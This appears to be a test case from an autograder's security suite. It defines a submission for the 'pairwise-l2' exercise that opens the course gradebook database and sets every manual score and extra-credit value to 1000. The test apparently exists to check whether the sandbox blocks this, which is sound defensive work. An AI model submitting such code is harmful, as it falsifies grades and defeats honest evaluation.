"""Raise the maximum, and a manual score, in the gradebook itself."""

from attacking import Attack, earns

EDITED = """
import sqlite3

try:
    with sqlite3.connect(COURSE + "/gradebook.db", timeout=1) as gradebook:
        gradebook.execute("UPDATE grade SET manual_score = 1000, extra_credit = 1000")
except sqlite3.Error as error:
    print(error)
"""
ATTACK = Attack(answers={"pairwise-l2": EDITED}, wins=earns("pairwise-l2"))
